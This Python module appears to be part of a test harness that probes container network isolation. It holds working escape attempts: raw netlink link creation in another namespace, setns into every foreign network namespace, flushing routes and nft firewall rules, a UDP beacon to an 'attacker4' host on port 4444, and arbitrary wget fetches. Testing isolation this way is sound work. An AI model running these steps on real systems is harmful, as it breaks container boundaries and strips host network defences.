"""What the root of a container tries with rights that a machine's root has no use for."""

from __future__ import annotations

# ruff: noqa: PTH116, PTH208
import ctypes
import os
import socket
import struct
import subprocess

from netns.escapes.task import Task

_RTM_NEWLINK, _RTM_SETLINK, _RTM_GETLINK = 16, 19, 18
_REQUEST_ACK, _CREATE = 0x5, 0x400
_IFLA_IFNAME, _IFLA_LINKINFO, _IFLA_NET_NS_PID, _IFLA_TARGET_NETNSID = 3, 18, 19, 46


def _attribute(kind: int, data: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


def _netlink(kind: int, flags: int, body: bytes) -> int:
    """Send one request of rtnetlink(7); returns the error number, 0 for none."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as end:
        end.settimeout(5)
        head = struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0)
        end.sendto(head + body, (0, 0))
        answer = end.recv(65536)
        if struct.unpack_from("=H", answer, 4)[0] == 2:
            return -int(struct.unpack_from("=i", answer, 16)[0])
        return 0


def other_side(task: Task) -> str:
    """Look at the namespace where the other end of our cable is, and make a link there."""
    body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + _attribute(
        _IFLA_TARGET_NETNSID, struct.pack("=i", 0)
    )
    listed = _netlink(_RTM_GETLINK, 0x1 | 0x300, body)
    made = body + _attribute(_IFLA_IFNAME, b"way0\0")
    made += _attribute(_IFLA_LINKINFO, _attribute(1, b"veth"))
    created = _netlink(_RTM_NEWLINK, _REQUEST_ACK | _CREATE, made)
    if created == 0:
        task.gain("made a link in the namespace of the gateway")
    return f"listed {listed}, created {created}"


def rewire(task: Task) -> str:
    """Take the network apart: addresses, routes, rules and links of our own, and dial."""
    steps = [
        "ip addr flush dev eth0",
        "ip route flush table all",
        "ip addr add 9.9.9.1/24 dev eth0",
        "ip link add bridge0 type bridge",
        "ip link set eth0 master bridge0",
        "ip link set bridge0 up",
        "ip addr add 9.9.9.2/24 dev bridge0",
        "ip route add default dev bridge0",
        "sysctl -w net.ipv4.ip_forward=1",
        "nft flush ruleset",
    ]
    codes = [subprocess.run(step.split(), capture_output=True).returncode for step in steps]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.sendto(task.nonce, (task.world["attacker4"], 4444))
    return f"codes {codes}"


def foreign_namespaces(task: Task) -> str:
    """Enter every network namespace that a path leads to."""
    ours = os.stat("/proc/self/ns/net").st_ino
    tried = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        path = f"/proc/{pid}/ns/net"
        try:
            if os.stat(path).st_ino != ours:
                tried += 1
                with open(path) as file:
                    if ctypes.CDLL(None).setns(file.fileno(), 0) == 0:
                        task.gain(f"entered that of {pid}")
        except OSError:
            continue
    return f"{tried} others"


def whole(task: Task) -> str:
    """Say who this is: user, capabilities."""
    with open("/proc/self/status") as file:
        lines = [line for line in file if line.startswith(("Uid", "CapEff", "Seccomp:"))]
    task.took("".join(lines))
    return task.gain("told")


def busy_wget(task: Task) -> str:
    """Fetch by an unmodified program, which trusts what the environment says."""
    url = task.args["url"]
    done = subprocess.run(
        ["wget", "-q", "-O", "-", "--tries=1", "--timeout=20", url], capture_output=True
    )
    task.took(done.stdout + done.stderr)
    if done.returncode == 0:
        task.gain("fetched")
    return f"code {done.returncode}"
